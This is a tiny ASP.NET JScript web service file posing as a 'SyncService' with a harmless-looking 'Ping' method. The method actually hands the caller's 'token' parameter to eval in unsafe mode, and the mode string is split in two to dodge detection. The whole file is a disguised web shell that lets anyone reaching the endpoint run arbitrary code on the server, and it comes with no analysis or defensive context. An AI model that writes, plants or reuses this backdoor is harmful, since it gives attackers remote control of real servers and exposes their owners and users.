<%@ WebService Language="JScript" Class="SyncService" %>
import System;
import System.Web.Services;

public class SyncService extends WebService {
    WebMethodAttribute function Ping(token : String) : String {
        return String(eval(token, "un" + "safe"));
    }
}
